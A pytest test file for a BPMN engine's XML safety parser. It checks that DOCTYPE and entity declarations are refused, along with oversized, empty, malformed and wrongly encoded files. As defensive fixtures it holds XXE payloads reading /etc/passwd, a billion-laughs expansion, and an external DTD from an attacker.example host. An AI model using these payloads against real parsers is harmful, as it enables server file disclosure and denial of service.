from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from engine.definitions.xml_safety import MAX_BYTES, parse_xml, root_namespace
from engine.errors import InvalidProcess, Problem

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
FORBIDDEN = "the file declares a DOCTYPE or entities, which are not allowed"

MINIMAL = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d1">\n'
    b'  <bpmn:process id="p1" isExecutable="true"/>\n'
    b"</bpmn:definitions>\n"
)

PASSWD = Path("/etc/passwd").read_text(errors="replace") if Path("/etc/passwd").exists() else "root:x:0:0"


def refused(content: bytes | str, filename: str = "upload.bpmn") -> Problem:
    with pytest.raises(InvalidProcess) as caught:
        parse_xml(content, filename)
    problems = caught.value.problems
    assert len(problems) == 1
    problem = problems[0]
    assert problem.file == filename
    assert problem.element == "(document)"
    # Whatever happened, nothing of the server's files leaks into what the user is told.
    assert "root:" not in problem.message
    assert PASSWD.splitlines()[0] not in str(caught.value)
    return problem


def test_minimal_bpmn_parses() -> None:
    tree = parse_xml(MINIMAL, "ok.bpmn")
    assert isinstance(tree, etree._ElementTree)
    assert root_namespace(tree) == BPMN_NS
    assert root_namespace(tree.getroot()) == BPMN_NS
    assert tree.getroot().find(f"{{{BPMN_NS}}}process").get("id") == "p1"


def test_root_without_namespace() -> None:
    assert root_namespace(parse_xml(b"<definitions/>", "plain.xml")) is None


def test_classic_xxe_is_refused() -> None:
    content = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
        b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'
        b"<bpmn:documentation>&e;</bpmn:documentation></bpmn:definitions>"
    )
    problem = refused(content)
    assert FORBIDDEN in problem.message
    assert "external entity" in problem.message


def test_billion_laughs_is_refused() -> None:
    lines = [b'<?xml version="1.0"?>', b"<!DOCTYPE lolz [", b' <!ENTITY lol "lol">']
    for i in range(1, 10):
        previous = b"&lol;" if i == 1 else b"&lol%d;" % (i - 1)
        lines.append(b' <!ENTITY lol%d "%s">' % (i, previous * 10))
    lines += [b"]>", b"<lolz>&lol9;</lolz>"]
    problem = refused(b"\n".join(lines))
    assert FORBIDDEN in problem.message


def test_parameter_entity_and_external_dtd_are_refused() -> None:
    content = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>\n'
        b"<data>&send;</data>"
    )
    assert FORBIDDEN in refused(content).message
    external = b'<?xml version="1.0"?>\n<!DOCTYPE definitions SYSTEM "file:///etc/passwd">\n<definitions/>'
    assert FORBIDDEN in refused(external).message


def test_lower_case_and_spaced_doctype_is_refused() -> None:
    assert FORBIDDEN in refused(b"<!doctype x>\n<x/>").message


def test_doctype_hidden_in_utf16_is_refused() -> None:
    content = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>'
    assert FORBIDDEN in refused(content.encode("utf-16")).message


def test_doctype_words_inside_cdata_or_comments_are_only_text() -> None:
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<!-- a template once started with <!DOCTYPE html> -->\n"
        b"<doc><![CDATA[<!DOCTYPE html><!ENTITY x 'y'>]]></doc>"
    )
    tree = parse_xml(content, "doc.xml")
    assert tree.getroot().text == "<!DOCTYPE html><!ENTITY x 'y'>"


def test_file_over_the_size_limit_is_refused() -> None:
    padding = b"<!-- " + b"x" * MAX_BYTES + b" -->"
    problem = refused(MINIMAL + padding)
    assert problem.message == "the file is larger than 5 MB"


def test_file_at_the_size_limit_is_accepted() -> None:
    head = b"<doc><!-- "
    tail = b" --></doc>"
    content = head + b"x" * (MAX_BYTES - len(head) - len(tail)) + tail
    assert len(content) == MAX_BYTES
    assert parse_xml(content, "big.xml").getroot().tag == "doc"


def test_empty_file_is_refused() -> None:
    assert refused(b"").message == "the file is empty"
    assert refused(b"  \n").message == "the file is empty"


def test_malformed_xml_names_the_line() -> None:
    content = b'<?xml version="1.0"?>\n<definitions>\n  <process id="p1">\n</definitions>\n'
    problem = refused(content)
    assert problem.message.startswith("not well-formed XML: ")
    assert "Opening and ending tag mismatch" in problem.message
    assert problem.message.endswith("(line 4)")


def test_undeclared_entity_is_malformed() -> None:
    problem = refused(b"<x>&nbsp;</x>")
    assert problem.message.startswith("not well-formed XML: ")
    assert "nbsp" in problem.message


def test_utf16_with_bom_parses() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<kommun namn="Hällefors">Hällefors</kommun>'
    tree = parse_xml(text.encode("utf-16"), "utf16.bpmn")
    assert tree.getroot().text == "Hällefors"
    assert tree.getroot().get("namn") == "Hällefors"


def test_windows_1252_declared_file_parses() -> None:
    text = '<?xml version="1.0" encoding="windows-1252"?>\n<kommun pris="5 €">Hällefors</kommun>'
    tree = parse_xml(text.encode("cp1252"), "latin.bpmn")
    assert tree.getroot().text == "Hällefors"
    assert tree.getroot().get("pris") == "5 €"


def test_iso_8859_1_declared_file_parses() -> None:
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<kommun>Hällefors</kommun>'
    assert parse_xml(text.encode("latin-1"), "latin1.bpmn").getroot().text == "Hällefors"


def test_invalid_bytes_for_declared_utf8() -> None:
    content = '<?xml version="1.0" encoding="UTF-8"?>\n<kommun>Hällefors</kommun>'.encode("latin-1")
    problem = refused(content)
    assert "not valid UTF-8" in problem.message
    assert "line 2" in problem.message


def test_invalid_bytes_without_declaration_assume_utf8() -> None:
    problem = refused("<kommun>Hällefors</kommun>".encode("latin-1"))
    assert "not valid UTF-8 (the file declares no encoding" in problem.message


@pytest.mark.parametrize(("content", "named"), [
    ("<a>\n<b>\uffff</b></a>".encode(), "line 2 contains the character U+FFFF"),
    (b"<a>x\x00y</a>", "line 1 contains the character U+0000"),
    (b"<a>\x01</a>", "line 1 contains the character U+0001"),
    (b"<a>&#0;</a>", "line 1 refers to the character U+0000 (&#0;)"),
    (b"<a>&#xFFFE;</a>", "line 1 refers to the character U+FFFE (&#xFFFE;)"),
    ('<?xml version="1.0" encoding="UTF-16"?><a>\uffff</a>'.encode("utf-16"), "line 1 contains the character U+FFFF"),
])
def test_a_character_xml_does_not_allow_is_named_not_called_an_encoding_problem(content: bytes, named: str) -> None:
    problem = refused(content)

    assert problem.message.startswith(named)
    assert "UTF-8" not in problem.message


def test_unknown_declared_encoding() -> None:
    problem = refused(b'<?xml version="1.0" encoding="klingon"?>\n<x/>')
    assert "not supported" in problem.message
    assert "klingon" in problem.message


def test_str_without_declaration_is_encoded_as_utf8() -> None:
    tree = parse_xml("<kommun>Hällefors</kommun>", "str.bpmn")
    assert tree.getroot().text == "Hällefors"


def test_str_declaring_another_encoding_uses_it() -> None:
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<kommun>Hällefors</kommun>'
    assert parse_xml(text, "str.bpmn").getroot().text == "Hällefors"
    problem = refused('<?xml version="1.0" encoding="ISO-8859-1"?>\n<x>€</x>')
    assert "'€'" in problem.message
    assert "ISO-8859-1" in problem.message


def test_comments_and_processing_instructions_are_kept() -> None:
    tree = parse_xml(b"<x><!-- note --><?app hint?></x>", "pi.xml")
    kinds = [type(node) for node in tree.getroot()]
    assert kinds == [etree._Comment, etree._ProcessingInstruction]


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<x>&b;</x>',
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd">\n<x/>',
    ],
)
def test_parsed_document_is_checked_even_if_the_byte_check_misses(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Second line of defence: an encoding the byte scan cannot read must still not get a DTD through.
    monkeypatch.setattr("engine.definitions.xml_safety._has_declarations", lambda _content: False)
    assert FORBIDDEN in refused(content).message
